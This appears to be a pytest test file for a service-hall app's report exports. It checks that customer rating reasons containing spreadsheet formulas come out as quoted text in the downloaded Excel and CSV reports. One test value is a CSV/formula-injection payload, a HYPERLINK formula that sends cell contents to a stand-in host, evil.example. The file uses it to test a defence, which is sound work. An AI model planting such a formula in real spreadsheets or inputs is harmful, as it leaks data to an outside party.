"""A hostile rating reason reaches a manager's spreadsheet as text, never as a formula: the
Excel file read back with openpyxl and the report CSV, both downloaded
from a real server after the reason was given through the real rating endpoint."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import pytest
from openpyxl import load_workbook

from server.reports.cells import safe_cell
from server.reports.export_csv import BOM
from tests.manage.conftest import HALL
from tests.manage.day import DAY, ScriptedDay

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ScriptedDay]:
    db = tmp_path_factory.mktemp("evil") / "hall.sqlite3"
    d = ScriptedDay.start(f"sqlite:///{db}", HALL)
    try:
        d.at("08:00")
        d.issue("HT", "t1")
        d.act(1, "next", expect="1001")
        d.at("08:05")
        d.finish(1, "t1", "guidance")
        d.rate(1, "t1", 1, EVIL)
        d.issue("HT", "t2")
        d.act(1, "next", expect="1002")
        d.at("08:10")
        d.finish(1, "t2", "guidance")
        d.rate(1, "t2", 1, "@SUM(1+1)\x01")
        yield d
    finally:
        d.close()
        d.live.stop()


def _get(d: ScriptedDay, path: str, **params: str):
    r = d.manager().get(path, params=params)
    assert r.status_code == 200, r.text
    return r


def test_guard_keeps_numbers_and_dates() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(0) == 0
    assert safe_cell(date(2026, 4, 28)) == date(2026, 4, 28) and safe_cell(None) is None
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    assert safe_cell("Chờ quá lâu") == "Chờ quá lâu" and safe_cell("a=b") == "a=b"


def test_excel_cell_is_text_not_formula(hostile: ScriptedDay) -> None:
    body = _get(hostile, "/api/v1/reports/summary", date=DAY.isoformat(), format="xlsx").content
    ws = load_workbook(io.BytesIO(body))["Lý do chưa hài lòng"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    cell = cells["'" + EVIL]
    assert cell.data_type == "s"
    assert "'@SUM(1+1)" in cells  # the control character dropped, the workbook still written
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    counts = [c.value for row in ws.iter_rows() for c in row if c.column == 2 and c.row > 5]
    assert counts == [1, 1]  # numbers stay numbers


def test_report_csv_line_starts_with_a_quote(hostile: ScriptedDay) -> None:
    text = _get(hostile, "/api/v1/reports/summary", date=DAY.isoformat(), format="csv").text
    lines = text.removeprefix(BOM).splitlines()
    assert any(line.startswith("\"'=HYPERLINK(") or line.startswith("'=HYPERLINK(")
               for line in lines), lines
    assert not any(line.startswith(("=", "+", "-", "@")) for line in lines)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert ["'" + EVIL, "1"] in rows

